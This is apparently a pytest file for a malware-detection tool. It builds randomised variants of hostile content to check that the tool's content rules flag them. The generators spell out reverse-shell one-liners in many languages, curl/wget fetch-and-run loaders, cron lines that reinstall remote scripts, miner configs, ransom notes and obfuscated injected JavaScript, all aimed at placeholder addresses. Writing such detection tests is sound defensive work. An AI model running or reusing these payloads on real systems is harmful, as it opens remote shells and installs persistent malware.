# ruff: noqa: E501 — made-up files read better on one line
"""Content rules against what they were not written from: each family, changed at random.

Names, order, spelling, addresses and surroundings differ from file to file. Nothing here runs.
"""

import json
import random
import string
from collections.abc import Callable

import pytest

from hemostat.detect.content.examples import noise
from hemostat.detect.content.made_elf import MadeElf, elf_bytes
from hemostat.detect.content.scanner import Scanner
from hemostat.detect.content.scanners import own_scanners
from hemostat.model.candidate import Candidate
from hemostat.model.level import Level
from hemostat.model.path import HostPath
from hemostat.model.records import Provenance

MUTATIONS = 60
ENOUGH = 0.9
Make = Callable[[random.Random], tuple[str, bytes]]


def word(chance: random.Random, fewest: int = 3, most: int = 9) -> str:
    return "".join(chance.choices(string.ascii_lowercase, k=chance.randint(fewest, most)))


def address(chance: random.Random) -> str:
    return f"{chance.choice(('203.0.113', '198.51.100', '45.9.148', '185.12.7'))}.{chance.randint(1, 254)}"


def port(chance: random.Random) -> int:
    return chance.choice((443, 3333, 4444, 8080, 9001, chance.randint(1024, 65535)))


def padded(chance: random.Random, text: str) -> bytes:
    """Ordinary lines before and after."""
    lines = [f"{word(chance)}={word(chance)}" for _ in range(chance.randint(0, 6))]
    tail = [f"# {word(chance)} {word(chance)}" for _ in range(chance.randint(0, 3))]
    return "\n".join((*lines, text, *tail, "")).encode()


def reverse_shell(chance: random.Random) -> tuple[str, bytes]:
    ip, to, s, q = address(chance), port(chance), word(chance), chance.choice("'\"")
    sh = chance.choice(("/bin/sh", "/bin/bash", "/bin/dash"))
    forms = (
        f"{sh} -i >& /dev/tcp/{ip}/{to} 0>&1",
        f"bash -c {q}bash -i &>/dev/tcp/{ip}/{to} 0>&1{q} &",
        f"exec 19<>/dev/tcp/{ip}/{to}\nwhile read -r {s} <&19; do eval ${s} >&19 2>&19; done",
        f"0<&196;exec 196<>/dev/tcp/{ip}/{to}; sh <&196 >&196 2>&196",
        f"import socket as {s}, os\nimport pty\nh={s}.socket()\nh.connect(({q}{ip}{q},{to}))\n"
        f"for i in range(3):\n    os.dup2(h.fileno(), i)\npty.spawn({q}{sh}{q})",
        f"import socket,subprocess,os\n{s}=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n"
        f"{s}.connect(({q}{ip}{q},{to}))\nos.dup2({s}.fileno(),0); os.dup2({s}.fileno(),1)\n"
        f"p=subprocess.call([{q}{sh}{q},{q}-i{q}])",
        f"use IO::Socket::INET;my ${s}=IO::Socket::INET->new(PeerAddr=>{q}{ip}:{to}{q});"
        f"STDIN->fdopen(${s},r);$~->fdopen(${s},w);system$_ while<>;",
        f"ruby -rsocket -e {q}f=TCPSocket.open({q}{ip}{q},{to}).to_i;exec sprintf({q}{sh} -i"
        f" <&%d >&%d 2>&%d{q},f,f,f){q}",
        f"<?php ${s}=fsockopen({q}{ip}{q},{to});shell_exec({q}{sh} -i <&3 >&3 2>&3{q}); ?>",
        f"mkfifo /tmp/{s}; nc {ip} {to} 0</tmp/{s} | {sh} >/tmp/{s} 2>&1; rm /tmp/{s}",
        f"rm -f /tmp/{s};mknod /tmp/{s} p && {sh} 0</tmp/{s} | nc {ip} {to} 1>/tmp/{s}",
        f"nc -lvnp {to} -e {sh}",
        f"busybox nc {ip} {to} -e {sh}",
        f"socat TCP:{ip}:{to} EXEC:{q}{sh}{q},pty,stderr,setsid,sigint,sane",
        f"telnet {ip} {to} | {sh} | telnet {ip} {to + 1}",
        f'awk \'BEGIN{{{s}="/inet/tcp/0/{ip}/{to}";while(1){{while(({s}|&getline c)>0)'
        f"{{while((c|&getline)>0)print $0|&{s};close(c)}}}}}}'",
        f"const {{spawn}}=require({q}child_process{q});const net=require({q}net{q});"
        f"const {s}=net.connect({to},{q}{ip}{q},()=>{{const p=spawn({q}{sh}{q});"
        f"{s}.pipe(p.stdin);p.stdout.pipe({s});p.stderr.pipe({s})}})",
    )
    return f"/opt/{s}", padded(chance, chance.choice(forms))


def miner_config(chance: random.Random) -> tuple[str, bytes]:
    scheme = chance.choice(("", "stratum+tcp://", "stratum+ssl://"))
    wallet = (
        chance.choice("48") + "A" + "".join(chance.choices("ABCDEFGHJKabcdefghjk123456789", k=93))
    )
    pool = {
        "url": f"{scheme}{word(chance)}.{word(chance)}.net:{port(chance)}",
        "user": chance.choice((wallet, f"{word(chance, 12, 20)}.{word(chance, 9)}")),
        "pass": word(chance),
        "algo": chance.choice(("rx/0", "cn/r", None)),
        "rig-id": None,
        "keepalive": True,
    }
    top: dict[str, object] = {
        "pools": [dict(chance.sample(sorted(pool.items(), key=str), len(pool)))],
        "donate-level": 0,
        "cpu": {"huge-pages": True},
        word(chance): word(chance),
    }
    shuffled = dict(chance.sample(sorted(top.items()), len(top)))
    return f"/var/tmp/{word(chance)}", json.dumps(
        shuffled, indent=chance.choice((None, 2))
    ).encode()


def loader(chance: random.Random) -> tuple[str, bytes]:
    ip, name = address(chance), word(chance)
    place = chance.choice(("/tmp", "/var/tmp", "/dev/shm"))
    get = chance.choice(
        ("curl -fsSL http://{0}/{1} -o {2}/{1}", "wget -q http://{0}/{1} -O {2}/{1}")
    )
    forms = (
        f"cd {place}\n{get.format(ip, name, place)}\nchmod {chance.choice(('+x', '777', '755'))} {name}\n"
        f"{chance.choice(('./', 'nohup ./', place + '/'))}{name} &",
        f"(curl -s http://{ip}/{name} || wget -qO- http://{ip}/{name}) | {chance.choice(('sh', 'bash'))}",
        f"cd /tmp || cd /var/run || cd /mnt; wget http://{ip}/{name}; chmod 777 {name}; ./{name}",
        f"import os,urllib.request as {word(chance)}r\nfrom urllib.request import urlretrieve\n"
        f"urlretrieve('http://{ip}:{port(chance)}/{name}','{place}/{name}')\n"
        f"os.chmod('{place}/{name}',0o777)\nos.system('{place}/{name}')",
    )
    return f"{place}/{name}.sh", b"#!/bin/sh\n" + padded(chance, chance.choice(forms))


def cron_script(chance: random.Random) -> tuple[str, bytes]:
    when = chance.choice(("* * * * *", "*/10 * * * *", "@reboot", "0 */2 * * *"))
    get = chance.choice(("curl -fsSL", "wget -qO-"))
    line = f"{when} {get} http://{address(chance)}/{word(chance)} | {chance.choice(('sh', 'bash'))}"
    rooted = line.replace(when, when + " root")
    forms = (
        f'(crontab -l 2>/dev/null; echo "{line}") | crontab -',
        f"echo '{line}' | crontab -",
        f"echo '{rooted}' >> /etc/crontab",
        f"printf '{rooted}\\n' > /etc/cron.d/{word(chance)}",
        f"cat > /etc/cron.d/{word(chance)} <<EOF\n{rooted}\nEOF",
    )
    return f"/opt/{word(chance)}.sh", b"#!/bin/sh\n" + padded(chance, chance.choice(forms))


def ransom_note(chance: random.Random) -> tuple[str, bytes]:
    mail = f"{word(chance)}@{word(chance)}.{chance.choice(('com', 'org', 'cc'))}"
    english = [
        chance.choice(
            (
                "All your files have been encrypted.",
                "We have encrypted all your servers.",
                "Your databases and documents were encrypted and stolen.",
            )
        ),
        chance.choice(
            ("To decrypt them you have to pay in bitcoin.", "Send 0.2 BTC to restore data.")
        ),
        f"Contact: {mail}",
        chance.choice(
            ("You have 72 hours.", "Do not try to rename files.", "Your personal id: 77")
        ),
    ]
    chinese = [
        chance.choice(("您的所有文件已被加密。", "你的数据库已被我们加密并备份到我们的服务器。")),
        chance.choice(("请支付 0.3 个比特币以解密。", "想恢复数据请向以下地址支付赎金（USDT）。")),
        f"联系邮箱：{mail}",
        chance.choice(("超过 3 天价格翻倍。", "请勿修改文件名，否则永久无法恢复。")),
    ]
    lines = chance.choice((english, chinese))
    coding = "gbk" if lines is chinese and chance.random() < 0.4 else "utf-8"
    return f"/srv/{word(chance)}.txt", "\r\n".join(lines).encode(coding)


def preload(chance: random.Random) -> tuple[str, bytes]:
    hooks = chance.sample(["fopen", "fopen64", "open", "accept", "unlink", "stat", "lstat"], 3)
    texts = chance.sample(
        ["/proc/net/tcp", "/proc/self/fd/%d", "/etc/ld.so.preload", "/proc/%s/stat", "hide_file"], 2
    )
    made = MadeElf(
        defines=(chance.choice(("readdir", "readdir64")), *hooks),
        imports=(chance.choice(("dlsym", "dlvsym")), "strstr"),
        texts=(*texts, word(chance)),
    )
    return f"/usr/lib/lib{word(chance)}.so", elf_bytes(made)


def password_module(chance: random.Random) -> tuple[str, bytes]:
    who, secret = (
        chance.choice(("user", "login", "User", "host")),
        chance.choice(("pass", "password", "pwd")),
    )
    made = MadeElf(
        defines=("pam_sm_authenticate", "pam_sm_setcred"),
        imports=(
            chance.choice(("pam_get_authtok", "pam_get_item")),
            chance.choice(("fopen", "open", "send")),
        ),
        texts=(
            f"{who}{chance.choice((':', '=', ': '))}%s {secret}{chance.choice((':', '=', ': '))}%s",
            word(chance),
        ),
    )
    return "/usr/lib/security/pam_unix.so", elf_bytes(made)


def packed(chance: random.Random) -> tuple[str, bytes]:
    body = noise(chance.randint(4000, 9000))
    place = chance.choice(("/tmp/", "/dev/shm/.", "/var/www/html/uploads/", "/var/tmp/.x/"))
    return place + word(chance), elf_bytes(MadeElf("exec", texts=("UPX!",))) + body


def spam_page(chance: random.Random) -> tuple[str, bytes]:
    title = chance.choice(("百家乐", "时时彩", "六合彩", "老虎机", "娱乐城"))
    coding = chance.choice(("entity", "gbk", "hex"))
    shown = {
        "entity": "".join(f"&#{ord(c)};" for c in title).encode(),
        "hex": "".join(f"&#x{ord(c):x};" for c in title).encode(),
        "gbk": title.encode("gbk"),
    }[coding]
    head = f"<html><head><meta name='{word(chance)}'><title>".encode()
    body = f"</title></head><body>{word(chance)}</body></html>".encode()
    return f"/var/www/html/{word(chance)}.html", head + shown + word(chance).encode() + body


def injected(chance: random.Random) -> tuple[str, bytes]:
    code = f"var {word(chance)}=document.createElement('script');"
    forms = (
        f"eval(String.fromCharCode({','.join(str(ord(c)) for c in code)}))",
        f"document.write(unescape('{''.join(f'%{ord(c):02x}' for c in code)}'))",
        f"eval(atob('{(word(chance, 8) * 8)[:64]}'))",
        'document.write(decodeURIComponent("' + "".join(f"%{ord(c):02X}" for c in code) + '"))',
    )
    script = chance.choice(forms)
    page = chance.choice(("<html><body>{0}<script>{1}</script></body></html>", ";{1};/*{0}*/"))
    kind = "html" if page.startswith("<") else "js"
    return f"/var/www/html/{word(chance)}.{kind}", page.format(word(chance), script).encode()


FAMILIES: dict[str, tuple[Make, str]] = {
    "reverse-shell": (reverse_shell, "unowned"),
    "miner-config": (miner_config, "temporary"),
    "fetch-and-run": (loader, "temporary"),
    "cron-reinstaller": (cron_script, "unowned"),
    "ransom-note": (ransom_note, "recent"),
    "preload-rootkit": (preload, "unowned"),
    "password-logger": (password_module, "unowned"),
    "packed-program": (packed, "temporary"),
    "seo-spam": (spam_page, "web"),
    "injected-script": (injected, "web"),
}


@pytest.fixture(scope="module")
def scanners() -> tuple[Scanner, ...]:
    return own_scanners()


@pytest.mark.requirement("A5.7", "A5.8", "A5.11", "A5.20", "A5.3")
@pytest.mark.parametrize("family", FAMILIES)
def test_nine_in_ten_changed_files_are_found(family: str, scanners: tuple[Scanner, ...]) -> None:
    make, reason = FAMILIES[family]
    missed: list[bytes] = []
    for seed in range(MUTATIONS):
        path, content = make(random.Random(f"{family}{seed}"))
        file = Candidate(
            path=HostPath(path),
            real_path=HostPath(path),
            size=len(content),
            mode=0o755,
            state=Provenance.UNOWNED,
            reasons=frozenset({reason, "unowned"}),
        )
        levels = [
            hit.rule.level if hit.level is None else hit.level
            for scanner in scanners
            for hit in scanner.scan(file, content)
        ]
        if max(levels, default=Level.INFO) < Level.MEDIUM:
            missed.append(content)
    assert len(missed) <= MUTATIONS * (1 - ENOUGH), missed[:6]
